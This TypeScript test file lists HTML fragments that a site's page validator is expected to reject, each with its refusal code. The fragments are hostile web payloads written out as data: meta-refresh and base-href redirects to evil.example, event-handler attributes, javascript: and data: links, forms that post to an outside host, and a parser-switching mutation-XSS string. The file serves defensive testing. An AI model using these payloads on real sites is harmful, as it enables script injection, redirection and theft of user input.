import type { ArtifactCase } from '../case.ts';

/** Raw markup of a page, and the code it is refused with. */
const markup = (
  name: string,
  body: string,
  refused = /SITE_PAGE_(STRUCTURE|ELEMENT|ATTRIBUTE|URL|HEAD|ID|STYLE|TEMPLATE)|SITE_SLOT_/,
): ArtifactCase => ({
  name,
  section: { body },
  refused,
});

export const MARKUP: ArtifactCase[] = [
  markup('<plaintext> takes the rest of the page', '<plaintext>'),
  markup('<textarea> takes the rest of the page', '<textarea>'),
  markup('<title> in the body', '<title>Owned</title>'),
  markup('a comment that is never closed', '<!-- '),
  markup(
    'stray closing tags of the shell’s landmarks',
    '</div></div></main></div><footer>owned</footer><div><div>',
  ),
  markup('</body></html> and more after it', '</body></html><h2>owned</h2>'),
  markup('<meta http-equiv="refresh">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  markup('<base href>', '<base href="https://evil.example/">'),
  markup('<iframe>', '<iframe src="https://evil.example/"></iframe>'),
  markup('<iframe srcdoc>', '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>'),
  markup('<object> and <embed>', '<object data="/x"></object><embed src="/x">'),
  markup('handler attributes in any case', '<p onclick="x()" ONMOUSEOVER="x()">x</p>'),
  markup('a handler without quotes behind a slash', '<svg/onload=x()>'),
  markup('a second canonical link, in upper case', '<LINK REL="CANONICAL" HREF="https://evil.example/">'),
  markup(
    '<link rel="stylesheet"> of another origin',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
  ),
  markup(
    '<script> with a type of its own',
    '<script type="speculationrules">{"prerender":[{"urls":["/x"]}]}</script>',
  ),
  markup('the page’s own state a second time', '<script type="application/json" id="site-state">{}</script>'),
  markup('<style> in the page', '<style>body{display:none}</style>'),
  markup('a style attribute', '<p style="position:fixed;inset:0">x</p>'),
  markup('javascript: in a link, with a line break inside', '<a href="java&#10;script:alert(1)">x</a>'),
  markup('data: in a link', '<a href="data:text/html,<script>1</script>">x</a>'),
  markup(
    'a form that posts elsewhere',
    '<form action="https://evil.example/" method="post"><input name="email"></form>',
  ),
  markup(
    'a button that sends the form elsewhere',
    '<form action="/aaa" method="post"><button formaction="//evil.example/">x</button></form>',
  ),
  markup(
    'a picture of another origin',
    '<img alt="" src="https://evil.example/x.png" srcset="//evil.example/y.png 2x">',
  ),
  markup(
    'a forged slot of the form',
    '<div class="slot" data-section="leadform" data-slot="leadform/GetInTouch" data-boundary="leadform"><p>owned</p></div>',
  ),
  markup(
    'a forged wrapper of the shell',
    '<div data-boundary="shell" data-section="shell"><p>owned</p></div>',
  ),
  markup('ids of the shell', '<p id="main">x</p><p id="announcer">x</p>'),
  markup('<template>', '<template><p>x</p></template>'),
  markup('a foreign element that breaks out', '<svg><desc><plaintext></desc></svg>'),
  markup(
    '<math> that switches parsing mode',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
  ),
  markup('<select> and <table> that swallow', '<table><select><option>x'),
  markup(
    'srcset with an address of another origin after a comma alone',
    '<img alt="" src="/favicon.svg" srcset="/favicon.svg 1x,https://evil.example/x.png 2x">',
    /SITE_PAGE_URL/,
  ),
  markup('a field of the demo form', '<input form="demo-form" name="email">', /SITE_PAGE_ATTRIBUTE/),
  markup('<frameset>', '<frameset><frame src="/"></frameset>'),
  markup('a link inside a link', '<a href="/aaa">x<a href="/aaa">y</a></a>'),
];
